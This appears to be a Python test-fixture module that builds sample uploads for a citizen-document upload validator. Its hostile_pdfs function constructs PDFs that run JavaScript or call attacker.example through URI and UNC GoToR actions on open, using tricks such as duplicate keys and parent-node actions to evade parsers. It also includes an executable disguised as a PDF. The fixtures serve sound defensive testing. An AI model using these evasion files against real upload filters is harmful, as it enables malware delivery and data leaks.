"""Files as a citizen's browser would upload them."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image


def png(name="scan.png", size=(120, 80)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(buffer, format="PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


def jpeg(name="scan.jpg"):
    buffer = io.BytesIO()
    Image.new("RGB", (120, 80), (40, 40, 180)).save(buffer, format="JPEG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/jpeg")


def pdf_bytes(padding=0, **extra):
    """A real one-page PDF, `padding` bytes heavier; `extra` entries are added to its catalog."""
    from pypdf import PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if padding:  # an image-like stream: what makes a real scan heavy
        stream = StreamObject()
        stream.set_data(b"\x00" * padding)
        writer._root_object[NameObject("/Padding")] = writer._add_object(stream)
    for key, value in extra.items():
        writer._root_object[NameObject(key)] = value
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf(name="to-khai.pdf", padding=0):
    return SimpleUploadedFile(name, pdf_bytes(padding), content_type="application/pdf")


def disguised(name="passport.pdf"):
    """A Windows program with a PDF name and type: the content says otherwise."""
    return SimpleUploadedFile(name, b"MZ\x90\x00" + b"\x00" * 200, content_type="application/pdf")


def raw_pdf(*objects, root=1):
    """A PDF written byte by byte from object bodies (object 1 first), with a correct cross-reference
    table: for files a PDF library would refuse to write, such as a dictionary with a key twice."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + (body.encode() if isinstance(body, str) else body) + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]{extra} >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def hostile_pdfs():
    """The attack files of issue 33 (2), each a one-page PDF that runs or fetches something when opened
    in a viewer, though a reader taking the first of two keys, or not climbing to parents, sees none."""
    return {
        "duplicate-open-action": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /OpenAction 4 0 R >>",
            PAGES,
            PAGE.format(extra=""),
            SCRIPT,
        ),
        "duplicate-page-aa": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE.format(extra=" /AA << >> /AA << /O 4 0 R >>"), SCRIPT
        ),
        "aa-on-a-parent-outside-the-tree": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            "<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] >>",
            SCRIPT,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O 4 0 R >> >>",
        ),
        "script-on-a-widgets-parent-field": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>",
            PAGES,
            PAGE.format(extra=" /Annots [5 0 R]"),
            SCRIPT,
            "<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /Parent 6 0 R >>",
            "<< /FT /Tx /T (x) /AA << /K 4 0 R >> >>",
        ),
        "gotor-unc": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR "
            "/F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
            PAGES,
            PAGE.format(extra=""),
        ),
        "uri-on-open": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://attacker.example/o) >> >>",
            PAGES,
            PAGE.format(extra=""),
        ),
        "uri-on-page-open": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            PAGE.format(extra=" /AA << /O << /S /URI /URI (http://attacker.example/p) >> >>"),
        ),
        "javascript-link": raw_pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            PAGE.format(
                extra=" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
                "/A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>]"
            ),
        ),
    }


def linked_pdf():
    """A harmless PDF with an ordinary web link, as many printed-to-PDF documents have."""
    return raw_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        PAGE.format(
            extra=" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
            "/A << /S /URI /URI (https://dichvucong.gov.vn/) >> >>]"
        ),
    )
